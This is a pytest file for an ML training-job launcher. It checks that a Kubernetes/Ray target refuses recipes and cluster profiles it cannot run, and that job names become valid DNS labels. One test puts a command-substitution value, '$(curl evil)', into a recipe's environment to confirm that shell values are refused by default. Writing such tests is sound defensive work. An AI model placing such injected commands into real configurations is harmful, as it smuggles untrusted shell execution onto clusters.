"""What a cluster cannot run is refused before it is rendered, everything at once."""

import pytest
from rayjobs import CASES, launch, profile, recipe
from smoke_recipe import smoke_recipe

from openrecipes.recipe.model import Recipe
from openrecipes.targets.container import Container
from openrecipes.targets.fabric import Fabric, fabric_refusals
from openrecipes.targets.kubernetes import KubernetesTarget
from openrecipes.targets.kubernetes_names import config_name, dns_1035, job_prefix
from openrecipes.targets.kubernetes_site import SecretKey, Volume
from openrecipes.targets.profile import Profile
from openrecipes.targets.running_settings import Secret


def _rules(one: object) -> set[tuple[str, str]]:
    return {(p.rule, p.place.key) for p in KubernetesTarget().refusals(one)}  # type: ignore[arg-type]


def test_the_shipped_profiles_take_the_recipes_of_their_gpu() -> None:
    assert all(_rules(launch(recipe(name), profile(cluster))) == set() for name, cluster in CASES)


FSX = Volume(name="fsx", mount_path="/fsx", claim="c")


@pytest.mark.parametrize(
    ("changes", "rule", "key"),
    [
        ({"kubernetes": None}, "target-site", "kubernetes"),
        ({"paths": {"slime": None}}, "target-paths", "paths.slime"),
        ({"paths": {"sft_data": None}}, "target-paths", "paths.sft_data"),
        ({"paths": {"torch_dist": "/local/ckpt"}}, "target-mounted", "paths.torch_dist"),
        ({"paths": {"torch_dist": "/fsx/../root/ckpt"}}, "target-mounted", "paths.torch_dist"),
        ({"paths": {"runs": "/runs"}}, "target-mounted", "paths.runs"),
        ({"paths": {"runs": None}}, "target-mounted", "paths.runs"),
        ({"kubernetes": {"volumes": (FSX.model_copy(update={"read_only": True}),)}}, "target-mounted", "paths.runs"),
        ({"time_limit_seconds": None}, "target-time", "time_limit_seconds"),
        ({"secrets": {"HF_TOKEN": Secret(variable="HF_TOKEN")}}, "profile-secret", "secrets"),
        ({"ray": {"port": 6379}}, "profile-ray", "ray.port"),
        ({"ray": {"interface": "eth0"}}, "profile-ray", "ray.interface"),
        ({"ray": {"folder": "/scratch"}}, "profile-ray", "ray.folder"),
        ({"keep_environment": ("HTTPS_PROXY",)}, "profile-environment", "keep_environment"),
        ({"fabric": {"device_files": ("/dev/gdrdrv",)}}, "profile-devices", "fabric.device_files"),
        ({"container": Container(runtime="pyxis", image="/x.sqsh")}, "target-container", "container"),
        (
            {
                "kubernetes": {
                    "volumes": (FSX, Volume(name="ib", mount_path="/dev/infiniband", host_path="/dev/infiniband"))
                }
            },
            "target-volume",
            "kubernetes.volumes[1]",
        ),
        (
            {"kubernetes": {"volumes": (FSX, Volume(name="shm", mount_path="/x", claim="c"))}},
            "target-volume",
            "kubernetes.volumes[1]",
        ),
        (
            {"kubernetes": {"volumes": (FSX, Volume(name="y", mount_path="/dev/shm", claim="c"))}},
            "target-volume",
            "kubernetes.volumes[1]",
        ),
        (
            {"kubernetes": {"volumes": (FSX, Volume(name="y", mount_path="/y"))}},
            "target-volume",
            "kubernetes.volumes[1]",
        ),
        (
            {"kubernetes": {"secrets": (SecretKey(variable="POD_RUN_DIR", secret="s", key="k"),)}},
            "target-secret",
            "kubernetes.secrets[0]",
        ),
    ],
)
def test_a_profile_that_lacks_something_is_refused_there_alone(changes: dict[str, object], rule: str, key: str) -> None:
    assert _rules(launch(where=profile(**changes))) == {(rule, key)}


def test_the_smoke_trainer_and_a_recipes_own_command_are_refused() -> None:
    assert ("target-trainer", "trainer") in _rules(launch(smoke_recipe()))
    made = recipe().model_copy(update={"env": {"A": "$(curl evil)"}})
    assert _rules(launch(made)) == {("env-shell-allowed", "env.A")}
    assert _rules(launch(made, allow_shell_env=True)) == set()


def test_files_that_no_config_map_holds_are_refused() -> None:
    made = recipe().model_copy(update={"env": {f"LONG_{i}": "$" + "x" * 19_000 for i in range(60)}})
    assert _rules(launch(made)) == {("target-size", "kubernetes")}


def _flex(ep: int) -> Recipe:
    made = recipe()
    return made.model_copy(update={"layout": made.layout.model_copy(update={"dispatcher": "flex", "ep": ep})})


@pytest.mark.parametrize(
    ("ep", "fabric", "refused"),
    [
        (32, Fabric(kind="efa", devices_per_node=16), True),
        (8, Fabric(kind="efa", devices_per_node=16), False),
        (32, Fabric(kind="infiniband", devices_per_node=8), False),
        (32, Fabric(kind="efa", devices_per_node=16, deepep_build="a build with an EFA transport"), False),
        (32, None, False),
    ],
)
def test_deepep_between_nodes_is_refused_on_efa(ep: int, fabric: Fabric | None, refused: bool) -> None:
    found = [p.rule for p in fabric_refusals(_flex(ep), fabric, "cluster profile x")]
    assert found == (["fabric-deepep"] if refused else [])
    where: Profile = profile(fabric=fabric)
    assert (("fabric-deepep", "layout.dispatcher") in _rules(launch(_flex(ep), where))) is refused


@pytest.mark.parametrize(
    ("text", "name"),
    [
        ("Qwen3.5-397B-A17B", "qwen3-5-397b-a17b"),
        ("3b", "r-3b"),
        ("..", "r"),
        ("Ünï", "n"),
        ("a" * 60, "a" * 47),
        ("a" * 46 + "--b", "a" * 46),
    ],
)
def test_names_become_dns_labels(text: str, name: str) -> None:
    assert dns_1035(text) == name


def test_long_models_still_give_names_that_kuberay_takes() -> None:
    assert len(job_prefix("m" * 80, "TP2")) + 5 <= 47
    assert len(config_name("m" * 80, "TP2", "0" * 64)) <= 47
